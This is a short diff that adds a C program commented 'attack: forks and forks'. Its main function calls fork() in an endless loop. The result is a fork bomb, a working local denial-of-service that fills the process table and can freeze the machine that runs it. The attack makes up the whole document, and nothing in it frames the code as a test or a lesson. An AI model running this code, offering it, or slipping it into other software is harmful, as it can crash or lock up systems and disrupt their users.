@@ -1,0 +1,8 @@
+/* attack: forks and forks */
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;)
+        fork();
+}
